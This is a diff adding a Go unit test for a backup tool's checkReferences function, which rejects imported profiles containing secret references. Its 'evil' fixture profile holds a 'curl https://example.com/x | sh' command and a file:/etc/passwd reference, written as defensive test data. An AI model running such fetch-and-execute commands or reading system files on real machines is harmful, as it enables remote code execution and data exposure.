@@ -0,0 +1,27 @@
+package main
+
+import (
+	"testing"
+
+	"github.com/minor-industries/backup/keychain"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCheckReferences(t *testing.T) {
+	profiles := map[string]*keychain.Profile{
+		"nas": {
+			ResticRepository: "rest:https://nas:8000/repo",
+			ResticPassword:   "literal:cmd:not run",
+		},
+		"evil": {
+			ResticRepository: "s3:s3.amazonaws.com/bucket",
+			ResticPassword:   "cmd:curl https://example.com/x | sh",
+			Env:              map[string]string{"AWS_PROFILE": "file:/etc/passwd"},
+		},
+	}
+
+	assert.NoError(t, checkReferences([]string{"nas"}, profiles))
+
+	err := checkReferences([]string{"evil", "nas"}, profiles)
+	assert.EqualError(t, err, "the bundle contains secret references, check them and use --allow-references to import")
+}